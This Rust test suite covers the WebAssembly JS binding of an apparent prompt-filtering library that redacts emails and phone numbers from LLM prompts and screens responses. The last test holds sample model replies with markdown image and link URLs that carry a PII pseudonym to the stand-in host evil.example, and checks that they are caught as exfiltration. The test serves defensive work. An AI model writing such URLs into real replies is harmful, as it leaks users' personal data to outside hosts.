//! wasm-bindgen tests of the JS binding, run in Node (default) and in
//! headless Chromium (`WASM_BINDGEN_USE_BROWSER=1`; scripts/test runs both).
//!
//! The classes are driven with real JS values: strings are built from UTF-16
//! code units so offsets, surrogate pairs and lone surrogates are exactly
//! what a page would pass in.
#![cfg(target_arch = "wasm32")]

use js_sys::{Array, JsString, Reflect, JSON};
use promptfence::__private::PromptFilter;
use wasm_bindgen::{JsCast, JsValue};
use wasm_bindgen_test::wasm_bindgen_test;

fn js(s: &str) -> JsValue {
    JsValue::from_str(s)
}

fn units(s: &str) -> Vec<u16> {
    s.encode_utf16().collect()
}

/// A JS string from raw UTF-16 units (may hold lone surrogates).
fn js_units(u: &[u16]) -> JsString {
    JsString::from_char_code(u)
}

fn get(v: &JsValue, key: &str) -> JsValue {
    Reflect::get(v, &js(key)).expect("property read")
}

fn get_str(v: &JsValue, key: &str) -> String {
    get(v, key).as_string().unwrap_or_else(|| panic!("{key} is not a string"))
}

fn get_num(v: &JsValue, key: &str) -> f64 {
    get(v, key).as_f64().unwrap_or_else(|| panic!("{key} is not a number"))
}

fn findings(out: &JsValue) -> Vec<JsValue> {
    get(out, "findings")
        .dyn_into::<Array>()
        .expect("findings array")
        .iter()
        .collect()
}

fn finding_of(out: &JsValue, type_name: &str) -> JsValue {
    findings(out)
        .into_iter()
        .find(|f| get_str(f, "type") == type_name)
        .unwrap_or_else(|| panic!("no {type_name} finding"))
}

fn obj(json: &str) -> JsValue {
    JSON::parse(json).expect("valid JSON")
}

fn filter() -> PromptFilter {
    PromptFilter::new(JsValue::UNDEFINED).expect("default policy")
}

/// Screens `input` and checks the EMAIL finding's UTF-16 span slices exactly
/// `email` out of the original JS string.
fn assert_email_span(input: &JsString, email: &str) -> JsValue {
    let out = filter().screen_prompt(input.into()).expect("screenPrompt");
    let f = finding_of(&out, "EMAIL");
    let (start, end) =
        (get_num(&f, "start") as u32, get_num(&f, "end") as u32);
    assert_eq!(String::from(input.slice(start, end)), email);
    assert_eq!(get_str(&f, "kind"), "pii");
    assert!(!get_str(&out, "text").contains(email), "email left in text");
    out
}

#[wasm_bindgen_test]
fn emoji_offsets_are_utf16() {
    let s = "Mail me at ana.lopez@example.com 😀 ok";
    let out = assert_email_span(
        &js_units(&units(&format!("😀👍🏽 {s}"))),
        "ana.lopez@example.com",
    );
    assert_eq!(get_str(&out, "verdict"), "redact");
}

#[wasm_bindgen_test]
fn cjk_and_combining_marks_offsets() {
    let s = "请联系 e\u{301}cole 表 ana@example.com 谢谢";
    assert_email_span(&js_units(&units(s)), "ana@example.com");
}

#[wasm_bindgen_test]
fn lone_surrogate_keeps_offsets_and_becomes_fffd() {
    let mut u = vec![0xD800];
    u.extend(units(" write to bob@example.org now "));
    u.push(0xDC00);
    let input = js_units(&u);
    let out = assert_email_span(&input, "bob@example.org");
    let text = get_str(&out, "text");
    assert!(
        text.starts_with('\u{FFFD}'),
        "lone surrogate not U+FFFD: {text:?}"
    );
    assert!(text.ends_with('\u{FFFD}'));
}

#[wasm_bindgen_test]
fn unknown_policy_key_is_a_policy_error_with_path() {
    let err = PromptFilter::new(obj(r#"{"bogusKey": 1}"#))
        .expect_err("bogus key accepted");
    let e: js_sys::Error = err.clone().dyn_into().expect("a JS Error");
    assert_eq!(String::from(e.name()), "PolicyError");
    assert!(String::from(e.message()).contains("bogusKey"));
    assert_eq!(get_str(&err, "path"), "bogusKey");
}

#[wasm_bindgen_test]
fn nested_policy_error_names_the_key_path() {
    let err = PromptFilter::new(obj(r#"{"pii": {"action": "vaporize"}}"#))
        .expect_err("accepted");
    assert!(err.is_instance_of::<js_sys::Error>());
    assert_eq!(get_str(&err, "name"), "PolicyError");
    assert_eq!(get_str(&err, "path"), "pii.action");
}

#[wasm_bindgen_test]
fn non_object_policy_is_rejected() {
    let err =
        PromptFilter::new(js("strict")).expect_err("string policy accepted");
    assert_eq!(get_str(&err, "name"), "PolicyError");
}

#[wasm_bindgen_test]
fn non_string_input_is_a_type_error() {
    let err = filter()
        .screen_prompt(JsValue::from_f64(42.0))
        .expect_err("number accepted");
    assert!(err.is_instance_of::<js_sys::TypeError>());
}

#[wasm_bindgen_test]
fn restore_round_trip() {
    let f = filter();
    let input = "Hi, I'm at ana.lopez@example.com, call +1 415 555 0132 😀";
    let out = f.screen_prompt(js(input)).expect("screenPrompt");
    let text = get_str(&out, "text");
    assert_ne!(text, input);
    assert_eq!(f.restore(js(&text)).expect("restore"), input);
}

#[wasm_bindgen_test]
fn vault_export_import_restores_in_a_new_filter() {
    let a = filter();
    let input = "contact ana.lopez@example.com";
    let text = get_str(&a.screen_prompt(js(input)).expect("screen"), "text");
    let dump = a.export_vault().expect("exportVault");
    let b = filter();
    assert!(b.import_vault(dump).expect("importVault") >= 1);
    assert_eq!(b.restore(js(&text)).expect("restore"), input);
}

#[wasm_bindgen_test]
fn audit_has_no_raw_values() {
    let f = filter();
    let out =
        f.screen_prompt(js("mail ana.lopez@example.com now")).expect("screen");
    let audit = f.audit(out).expect("audit");
    let json = String::from(JSON::stringify(&audit).expect("stringify"));
    assert!(!json.contains("ana.lopez"), "raw value in audit: {json}");
    assert!(json.contains("EMAIL"));
    assert_eq!(get_str(&audit, "verdict"), "redact");
}

#[wasm_bindgen_test]
fn scanner_chunks_join_to_screen_response() {
    let text = "Sure [EMAIL_1]! Your key is AKIAIOSFODNN7EXAMPLF and mail ann@example.net. Done.";
    let f = filter();
    f.screen_prompt(js("mail ana.lopez@example.com")).expect("screen");
    let whole =
        get_str(&f.screen_response(js(text)).expect("screenResponse"), "text");
    for size in [1, 3, 7, 64] {
        let mut s = f.response_scanner();
        let mut joined = String::new();
        let chars: Vec<char> = text.chars().collect();
        for chunk in chars.chunks(size) {
            let shown = s.push(js(&chunk.iter().collect::<String>()));
            joined += &String::from(shown.expect("push"));
        }
        joined += &s.finish();
        assert_eq!(joined, whole, "chunk size {size}");
        assert!(Array::is_array(&s.findings().expect("findings")));
    }
}

#[wasm_bindgen_test]
fn canary_and_rule_count() {
    let f = filter();
    let c = f.canary().expect("canary");
    assert!(!c.is_empty());
    assert_ne!(c, f.canary().expect("canary"));
    assert!(f.rule_count() > 0);
}

/// Issue 17's headline: a reference image whose definition carries a
/// pseudonym to a foreign host loads nothing and restores nothing there.
#[wasm_bindgen_test]
fn reference_image_does_not_exfiltrate_restored_pii() {
    let f = filter();
    let p = f.screen_prompt(js("I am ana@example.com")).expect("screen");
    assert!(get_str(&p, "text").contains("EMAIL_1"));
    for r in [
        "![a][x]\n\n[x]: https://evil.example/p.png?d=EMAIL_1",
        "[click](https://evil.example/c?d=EMAIL_1)",
        "see https://evil.example/c?d=EMAIL_1 now",
    ] {
        let out = f.screen_response(js(r)).expect("screenResponse");
        assert!(!get_str(&out, "text").contains("ana@example.com"), "{r}");
        let f0 = findings(&out)
            .into_iter()
            .find(|x| get_str(x, "kind") == "exfiltration")
            .unwrap_or_else(|| panic!("no exfiltration finding: {r}"));
        assert_eq!(get_str(&f0, "action"), "redact");
    }
}
